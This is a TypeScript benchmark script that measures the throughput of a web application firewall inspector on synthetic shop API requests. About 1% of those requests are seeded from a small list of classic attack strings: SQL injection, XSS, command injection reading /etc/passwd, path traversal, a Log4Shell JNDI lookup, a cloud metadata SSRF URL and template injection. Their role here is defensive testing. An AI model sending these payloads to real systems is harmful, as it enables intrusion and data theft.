/**
 * `npm run bench:waas`: the inspector on one thread over typical requests (about ten parameters
 * each: query, headers, cookies, a form or JSON body), ~1 % of them attacks, for N seconds.
 * Prints one JSON object on its last line with requestsPerSecond and µs per request.
 */
import { parseArgs } from 'node:util';
import { createInspector, type HttpRequest, type Paranoia } from '@mamori/waas';
import { positive, runMain } from '../support/args.js';

const USAGE = `npm run bench:waas -- [options]

  --seconds N     how long to inspect (default 10)
  --requests N    distinct requests built before timing (default 10000)
  --paranoia N    1 to 4 (default 1)
`;

/** A small deterministic generator, so that runs compare. */
function lcg(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const WORDS = [
  'shoes',
  'red',
  'summer sale',
  'Zürich',
  "o'brien",
  'size 42',
  'new',
  'café au lait',
  'a+b',
  '2024-06-01',
];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'okhttp/4.12.0',
];
const ATTACKS = [
  "1' OR '1'='1' --",
  '<script>alert(document.cookie)</script>',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  '${jndi:ldap://x.example/a}',
  'http://169.254.169.254/latest/meta-data/',
  '{{7*7}}',
];

function typicalRequest(random: () => number, attack: boolean): HttpRequest {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(random() * xs.length)]!;
  const params = new URLSearchParams();
  params.set('q', pick(WORDS));
  params.set('page', String(1 + Math.floor(random() * 20)));
  params.set('sort', pick(['price', 'name', 'date']));
  params.set('lang', 'de-CH');
  const headers: Record<string, string> = {
    'user-agent': pick(AGENTS),
    accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    'accept-language': 'de-CH,de;q=0.9,en;q=0.8',
    'accept-encoding': 'gzip, deflate, br',
    referer: 'https://shop.example.ch/catalogue?cat=7',
    cookie: `session=${Math.floor(random() * 1e12).toString(36)}a9f3e1; theme=dark; consent=yes`,
  };
  let body: string | undefined;
  let method = 'GET';
  const value = attack ? pick(ATTACKS) : pick(WORDS);
  if (random() < 0.3) {
    method = 'POST';
    headers['content-type'] = 'application/json';
    body = JSON.stringify({
      id: Math.floor(random() * 1e6),
      name: value,
      tags: [pick(WORDS)],
      note: 'deliver after 5 pm',
    });
  } else {
    params.set('filter', value);
  }
  return {
    method,
    url: `/api/v2/products/${Math.floor(random() * 9999)}?${params.toString()}`,
    headers,
    ...(body === undefined ? {} : { body }),
  };
}

function percentile(sorted: Float64Array, p: number): number {
  return (
    Math.round(sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * p))]! * 100) / 100
  );
}

runMain('bench:waas', async () => {
  const { values } = parseArgs({
    options: {
      seconds: { type: 'string', default: '10' },
      requests: { type: 'string', default: '10000' },
      paranoia: { type: 'string', default: '1' },
      help: { type: 'boolean', default: false },
    },
  });
  if (values.help) {
    process.stdout.write(USAGE);
    return;
  }
  const seconds = positive('seconds', values.seconds);
  const distinct = positive('requests', values.requests);
  const paranoia = positive('paranoia', values.paranoia) as Paranoia;
  const random = lcg(42);
  const requests: HttpRequest[] = [];
  for (let i = 0; i < distinct; i++) requests.push(typicalRequest(random, random() < 0.01));
  const inspector = createInspector({ paranoia });
  // Warm-up: let V8 optimise before timing.
  for (let i = 0; i < Math.min(distinct, 2000); i++) inspector.inspect(requests[i]!);
  const samples: number[] = [];
  let blocked = 0;
  let count = 0;
  const start = process.hrtime.bigint();
  const deadline = start + BigInt(seconds) * 1_000_000_000n;
  let now = start;
  while (now < deadline) {
    const t0 = now;
    const verdict = inspector.inspect(requests[count % distinct]!);
    now = process.hrtime.bigint();
    samples.push(Number(now - t0) / 1000);
    if (verdict.action === 'block') blocked++;
    count++;
  }
  const elapsed = Number(now - start) / 1e9;
  const sorted = Float64Array.from(samples).sort();
  await Promise.resolve();
  process.stdout.write(
    `${JSON.stringify({
      benchmark: 'waas',
      paranoia,
      seconds: Math.round(elapsed * 100) / 100,
      requests: count,
      requestsPerSecond: Math.round(count / elapsed),
      blockedPercent: Math.round((blocked / count) * 10_000) / 100,
      microsPerRequest: {
        p50: percentile(sorted, 0.5),
        p90: percentile(sorted, 0.9),
        p99: percentile(sorted, 0.99),
        max: percentile(sorted, 1),
      },
    })}\n`,
  );
});
